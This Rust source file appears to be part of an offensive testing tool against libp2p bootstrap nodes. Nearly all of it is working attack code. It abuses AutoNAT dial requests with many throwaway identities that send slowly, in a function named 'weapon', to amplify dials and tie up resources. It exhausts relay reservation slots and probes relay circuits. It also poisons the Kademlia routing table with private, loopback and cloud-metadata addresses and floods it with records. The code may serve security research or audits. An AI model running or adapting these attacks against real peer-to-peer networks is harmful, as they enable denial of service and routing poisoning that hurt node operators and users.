//! Attacks through what a bootstrap does for those who cannot be reached: dials on request,
//! reservations and circuits, the table of who is near.

use libp2p::PeerId;
use libp2p::identity::Keypair;
use libp2p::multiaddr::{Multiaddr, Protocol};
use serde_json::{Value as Json, json};
use tokio::time::{Duration, sleep};

use super::visit::{RESERVED, SOMEWHERE, register, reserve, signed};
use crate::guest::{DIAL_ME, Guest, HOP, KADEMLIA, receive, send};
use crate::peer::Who;
use crate::report::say;
use crate::rpc::{self, field, number};
use crate::{Problem, Stage, peer, ways};

/// Bytes in one piece of what AutoNAT asks for before it dials somebody else's address.
const PIECE: usize = 4000;
/// Between two pieces, of who sends slowly.
const SLOWLY: Duration = Duration::from_millis(200);

/// Asks to be dialled at each of these addresses; what is answered.
pub(crate) async fn probe(stage: &Stage, targets: &[Multiaddr]) -> Result<(), Problem> {
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let guest = Guest::connect(&who, stage.victim()?, &[]).await?;
    let mut answers = serde_json::Map::new();
    for target in targets {
        let answer = dial_me(&guest, target, Duration::ZERO).await;
        answers.insert(target.to_string(), answer.unwrap_or_else(|why| why.to_string().into()));
    }
    say(&json!({ "event": "probed", "answers": answers }));
    Ok(())
}

/// Many identities from many addresses ask for dials to one place or to a port of their own,
/// and send what is asked of them slowly, so that all wait at once.
pub(crate) async fn weapon(
    stage: &Stage,
    peers: u32,
    port: u16,
    target: Option<&Multiaddr>,
) -> Result<(), Problem> {
    let mut tasks = tokio::task::JoinSet::new();
    for number in 0..peers {
        let from = ways::host(stage.from, number);
        let own = || Multiaddr::from(from).with(Protocol::Tcp(port));
        let (victim, target) = (stage.victim()?.clone(), target.cloned().unwrap_or_else(own));
        let from = Some(from);
        tasks.spawn(async move {
            let who = Who { keys: Keypair::generate_ed25519(), from };
            let ask = async {
                let guest = Guest::connect(&who, &victim, &[]).await?;
                dial_me(&guest, &target, SLOWLY).await
            };
            ask.await.map_err(|why| why.to_string())
        });
    }
    say(&json!({ "event": "began" }));
    let (mut answered, mut refused) = (Vec::new(), 0);
    while let Some(done) = tasks.join_next().await {
        match done? {
            Ok(answer) => answered.push(answer),
            Err(_) => refused += 1,
        }
    }
    let dialled = answered.iter().filter(|answer| answer["status"] == 200).count();
    say(&json!({
        "event": "fired",
        "asked": peers,
        "dialled": dialled,
        "answered": answered.len(),
        "unanswered": refused,
    }));
    Ok(())
}

/// One request to be dialled (libp2p specs, autonat/autonat-v2.md), with the data that is
/// asked for: what was answered and how much it cost.
async fn dial_me(guest: &Guest, target: &Multiaddr, pause: Duration) -> Result<Json, Problem> {
    let mut stream = guest.open(DIAL_ME).await?;
    // The nonce is a fixed64.
    let nonce = [&[2 << 3 | 1][..], &7_u64.to_le_bytes()].concat();
    send(&mut stream, &field(1, &[field(1, &target.to_vec()), nonce].concat())).await?;
    let mut paid = 0;
    loop {
        let answer = receive(&mut stream).await?;
        let fields = rpc::fields(&answer).ok_or("the answer is no protobuf")?;
        let (kind, body) = fields.first().ok_or("the answer is empty")?;
        let body = rpc::fields(body).ok_or("the answer is no protobuf")?;
        if *kind == 2 {
            let status = rpc::number_in(&body, 1).unwrap_or(0);
            let dial = rpc::number_in(&body, 3).unwrap_or(0);
            return Ok(json!({ "status": status, "dial": dial, "paid": paid }));
        }
        let wanted = usize::try_from(rpc::number_in(&body, 2).unwrap_or(0))?;
        while paid < wanted {
            send(&mut stream, &field(4, &field(1, &[0; PIECE]))).await?;
            paid += PIECE;
            sleep(pause).await;
        }
    }
}

/// Throwaway identities from so many networks reserve, and keep what they get until the
/// program ends.
pub(crate) async fn reserve_all(stage: &Stage, identities: u32, hosts: u32) -> Result<(), Problem> {
    let (mut guests, mut statuses) = (Vec::new(), std::collections::BTreeMap::new());
    for number in 0..identities {
        let from = Some(ways::host(stage.from, number % hosts.max(1)));
        let who = Who { keys: Keypair::generate_ed25519(), from };
        let outcome = async {
            let guest = Guest::connect(&who, stage.victim()?, &[]).await?;
            let status = reserve(&guest).await?;
            guests.push(guest);
            Ok::<u64, Problem>(status)
        };
        let name = outcome.await.map_or_else(|_| "closed".to_owned(), |status| status.to_string());
        *statuses.entry(name).or_insert(0_u32) += 1;
    }
    let granted = statuses.get(&RESERVED.to_string()).copied().unwrap_or(0);
    say(&json!({ "event": "reserved", "granted": granted, "statuses": statuses }));
    // They stay connected, so that they keep their places.
    crate::unwanted().await;
    drop(guests);
    Ok(())
}

/// Asks for circuits to somebody who has no reservation, and to itself.
pub(crate) async fn circuits(stage: &Stage, to: &[PeerId]) -> Result<(), Problem> {
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let guest = Guest::connect(&who, stage.victim()?, &[]).await?;
    let mut answers = serde_json::Map::new();
    for peer in to.iter().chain([&guest.peer()]) {
        let question = [number(1, 1), field(2, &field(1, &peer.to_bytes()))].concat();
        let status = guest.ask(HOP, &question).await.map(|answer| {
            rpc::fields(&answer).and_then(|fields| rpc::number_in(&fields, 5)).unwrap_or(0)
        });
        let status = status.map_or_else(|why| Json::from(why.to_string()), Json::from);
        answers.insert(peer.to_string(), status);
    }
    say(&json!({ "event": "circuits", "answers": answers }));
    Ok(())
}

/// Introduces itself with private and foreign addresses and registers them; what of it the
/// table shows to another. Then it stores records and providers until it is sent away.
pub(crate) async fn insert(stage: &Stage, records: u32) -> Result<(), Problem> {
    let lies = [
        "/ip4/10.0.0.1/tcp/22",
        "/ip4/127.0.0.1/tcp/22",
        "/ip4/169.254.169.254/tcp/80",
        "/ip6/fd00::1/tcp/22",
        "/ip4/8.8.8.8/tcp/53",
        "/dns4/localhost/tcp/22",
    ];
    let mut addresses =
        lies.map(str::parse::<Multiaddr>).into_iter().collect::<Result<Vec<_>, _>>()?;
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let guest = Guest::connect(&who, stage.victim()?, &addresses).await?;
    addresses.push(SOMEWHERE.parse()?);
    register(&guest, &stage.namespace(), signed(&who.keys, &addresses)?).await.ok();
    let other = Who { keys: Keypair::generate_ed25519(), from: stage.from };
    let other = Guest::connect(&other, stage.victim()?, &[]).await?;
    let find = [number(1, 4), field(2, &guest.peer().to_bytes())].concat();
    let found = other.ask(KADEMLIA, &find).await?;
    let shown = shown(&found, &guest.peer())?;
    let (mut kept, mut asked) = (0, 0);
    for n in 0..records {
        match store(&guest, n, &addresses[0]).await {
            Ok(is_kept) => kept += u32::from(is_kept),
            // It was sent away.
            Err(_) => break,
        }
        asked += 1;
    }
    say(&json!({ "event": "inserted", "records": asked, "kept": kept, "shown": shown }));
    Ok(())
}

/// Stores a record and a provider under a key; whether the key then has any.
async fn store(guest: &Guest, n: u32, address: &Multiaddr) -> Result<bool, Problem> {
    let key = [b"/pk/", &n.to_be_bytes()[..]].concat();
    let provider = [field(1, &guest.peer().to_bytes()), field(2, &address.to_vec())].concat();
    let provide = [number(1, 2), field(2, &key), field(9, &provider)].concat();
    // It has no answer.
    send(&mut guest.open(KADEMLIA).await?, &provide).await?;
    let record = field(3, &[field(1, &key), field(2, &[7; 1000])].concat());
    let put = [number(1, 0), field(2, &key), record].concat();
    // Whoever takes none may close the stream instead of an answer.
    guest.ask(KADEMLIA, &put).await.ok();
    let mut kept = false;
    for (kind, part) in [(1, 3), (3, 9)] {
        let answer = guest.ask(KADEMLIA, &[number(1, kind), field(2, &key)].concat()).await?;
        let fields = rpc::fields(&answer).ok_or("the answer is no protobuf")?;
        kept |= fields.iter().any(|(number, _)| *number == part);
    }
    Ok(kept)
}

/// The addresses under which an answer shows a peer.
fn shown(answer: &[u8], peer: &PeerId) -> Result<Vec<String>, Problem> {
    let fields = rpc::fields(answer).ok_or("the answer is no protobuf")?;
    let mut addresses = Vec::new();
    for (_, body) in fields.iter().filter(|(number, _)| *number == 8) {
        let parts = rpc::fields(body).ok_or("a peer is no protobuf")?;
        if parts.iter().any(|(number, id)| *number == 1 && *id == peer.to_bytes()) {
            for (_, address) in parts.iter().filter(|(number, _)| *number == 2) {
                addresses.push(Multiaddr::try_from(address.clone())?.to_string());
            }
        }
    }
    Ok(addresses)
}
